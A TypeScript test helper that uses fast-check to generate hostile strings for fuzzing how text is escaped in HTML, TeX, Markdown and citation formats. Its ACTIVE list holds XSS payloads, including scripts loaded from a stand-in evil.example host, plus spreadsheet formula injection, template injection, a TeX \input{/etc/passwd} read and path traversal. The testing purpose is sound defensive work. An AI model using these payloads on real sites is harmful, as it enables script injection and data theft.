import fc from 'fast-check';

/** What would run, leave the page or end a quotation if any output took it for more than text. */
export const ACTIVE = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '</script><script src=https://evil.example/x.js></script>',
  '</style></title></textarea><svg onload=alert(1)>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
  '<base href=https://evil.example/>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<a href="javascript:alert(1)">walk</a>',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">',
  '--><script>alert(1)</script><!--',
  ']]><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '\\href{javascript:alert(1)}{walk}',
  '\\url{javascript:alert(1)}',
  '\\url{https://evil.example/"onclick="alert(1)}',
  '$\\href{javascript:alert(1)}{x}$',
  '$\\htmlStyle{background:url(https://evil.example/)}{x}$',
  '$\\includegraphics{https://evil.example/x.png}$',
  '[walk](javascript:alert(1))',
  '![walk](https://evil.example/x.png)',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '//evil.example/x',
  '#{alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '{alert(1)}',
  '<Cite of="x" />',
  'import x from "node:fs"',
  '=HYPERLINK("https://evil.example/")',
  '=1+1',
  '@SUM(1)',
] as const;

/** What a reader of some format, TeX, XML, JSON or a terminal takes for more than a letter. */
const MEANINGFUL = [
  ...'{}[]()<>$\\%&#_^~"\'`|*-=+/@;:,.!?',
  '\\',
  '\\begin{',
  '\\end{',
  '$$',
  '\\(',
  '\\frac{',
  '$\\def\\a{\\a\\a}\\a$',
  '$\\newcommand{\\x}{\\x}\\x$',
  '$x^{$',
  '\\verb|',
  '\\input{/etc/passwd}',
  '<!--',
  '<![CDATA[',
  '<!ENTITY a "&a;">',
  '&a;',
  '&#0;',
  '&#xD800;',
  '\\u0000',
  '\\ud835',
  '\n',
  '\r\n',
  '\r',
  '\n\n',
  '\t',
  '\nER  - \n',
  '\nTY  - JOUR\n',
  '\n},\n@article{x,\n',
  '\n---\n',
  ' and ',
  ' and others',
  ', ',
  'et al.',
  '%00',
  '../',
  '..\\',
] as const;

/** Letters and signs that are rare, empty, wide, turned around, half or none at all. */
const ODD = [
  '\0',
  '\u0007',
  '\u001b[2J',
  '\u0085',
  '\u00a0',
  '\u00ad',
  '\u0301',
  '\u0301'.repeat(40),
  '\u200b',
  '\u200d',
  '\u200f',
  '\u2028',
  '\u2029',
  '\u202e',
  '\u2066',
  '\ufdd0',
  '\ufeff',
  '\ufffd',
  '\ufffe',
  '\ud835',
  '\udc00',
  '𝑅',
  '😀',
  '👩‍👩‍👧',
  'Ã©',
  'ﬁ',
  'İ',
  'ß',
  'ſ',
  '٣',
  '中文',
  'עברית',
  'ภาษา',
] as const;

/** Names that every object has, and values that are none. */
const NAMES_OF_OBJECTS = [
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'toString',
  'valueOf',
  'prototype',
  'null',
  'undefined',
  'NaN',
  'true',
  '0',
  '-0',
  '1e999',
] as const;

const WORDS = 'the walk of two trees in rain was never measured before 2024 GPT R2D2 naïve'.split(
  ' ',
);

const piece = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...WORDS) },
  { weight: 2, arbitrary: fc.constantFrom(...MEANINGFUL) },
  { weight: 2, arbitrary: fc.constantFrom(...ODD) },
  { weight: 1, arbitrary: fc.constantFrom(...ACTIVE) },
  { weight: 1, arbitrary: fc.constantFrom(...NAMES_OF_OBJECTS) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 8 }) },
);

/** One sign over and over, as a cat on a keyboard writes. */
const row = fc
  .tuple(fc.constantFrom(...MEANINGFUL, ...ODD, 'a', '中', 'a '), fc.integer({ min: 2, max: 600 }))
  .map(([sign, times]) => sign.repeat(times));

/** Text with anything in it. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  {
    weight: 6,
    arbitrary: fc
      .tuple(fc.array(piece, { minLength: 1, maxLength: 12 }), fc.constantFrom('', ' '))
      .map(([pieces, between]) => pieces.join(between)),
  },
  { weight: 1, arbitrary: row },
);
